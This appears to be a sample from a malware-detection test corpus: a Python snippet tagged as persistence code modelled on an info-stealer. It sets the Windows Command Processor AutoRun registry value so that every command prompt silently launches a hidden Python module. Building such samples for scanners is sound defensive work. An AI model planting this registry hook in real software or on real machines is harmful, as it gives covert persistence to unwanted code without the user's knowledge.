# pkgguard corpus 465 (persistence), modelled on [stealer-profile]; inert, never run.
import sys
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Command Processor")
winreg.SetValueEx(key, "AutoRun", 0, winreg.REG_SZ, f'"{sys.executable}" -m pkg.agent >nul 2>&1')
winreg.CloseKey(key)
